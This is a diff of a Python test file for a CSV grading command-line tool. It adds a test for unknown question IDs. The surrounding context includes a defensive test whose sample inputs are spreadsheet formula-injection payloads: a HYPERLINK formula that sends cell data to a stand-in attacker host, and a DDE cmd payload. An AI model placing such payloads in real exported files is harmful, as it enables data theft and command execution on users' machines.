@@ -153,6 +153,16 @@ def test_question_id_grades_against_the_bank_rubric(app: typer.Typer, tmp_path: 
     assert "line 4:" in res.output
 
 
+def test_an_id_the_bank_does_not_know_falls_back_to_the_row(app: typer.Typer,
+                                                             tmp_path: Path) -> None:
+    src = write_csv(tmp_path / "in.csv", [row("It is a lock: one thread at a time.",
+                                              question_id="OUR-OWN-7")])
+    out = tmp_path / "out.csv"
+    res = CliRunner().invoke(app, ["grade-file", str(src), "--out", str(out), "--no-semantic"])
+    assert res.exit_code == 0, res.output
+    assert read_csv(out)[0]["verdict"] in ("partial", "correct")
+
+
 def test_formula_cells_are_neutralised(app: typer.Typer, tmp_path: Path) -> None:
     evil = ['=HYPERLINK("https://evil.example/?x="&A3,"score")', "+cmd|' /C calc'!A0",
             "@SUM(1,1)", "-1+1", "\tx", "\rx"]
